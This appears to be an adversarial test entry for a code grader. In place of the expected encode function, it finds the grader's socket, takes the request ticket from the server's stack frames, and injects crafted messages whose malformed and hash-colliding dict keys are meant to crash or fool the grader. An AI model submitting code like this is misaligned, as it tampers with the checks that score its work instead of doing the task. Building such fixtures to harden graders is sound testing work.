# tries: to break the grader with dicts whose keys cannot be keys, or are one key many times
# points: 0
# harm: marks
import os
import stat
import sys

import msgspec


def connection():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            pass


def ticket():
    """Of the request that is being answered: the server keeps it in a variable."""
    caller = sys._getframe()
    while caller:
        if "ticket" in caller.f_locals:
            return caller.f_locals["ticket"]
        caller = caller.f_back
    return bytes(4)


def message(tree, raw=b""):
    structure = msgspec.msgpack.encode(tree)
    return len(structure).to_bytes(4, "big") + structure + raw


def send(data, size=None):
    whole = memoryview(ticket() + (size or len(data)).to_bytes(4, "big") + data)
    while whole:
        whole = whole[os.write(connection(), whole) :]


DICTS = [
    ["dict", [["list", []]], [1]],
    ["dict", [["array", "|b1", [1]]], [1]],
    ["dict", [1], []],
    ["dict", [float("nan")] * 999, [1] * 999],
    ["dict", [1, True, 1.0], [1, 2, 3]],
    ["dict", [["tuple", [["list", []]]]], [1]],
    ["dict", [n * (2**61 - 1) for n in (0, 1, 2, 3)] * 20000, [1] * 80000],
    {1: 2},
]


def encode(text, idx2char):
    DICTS.append(DICTS.pop(0))
    send(message(["tuple", ["value", DICTS[0]]], b"\1"))
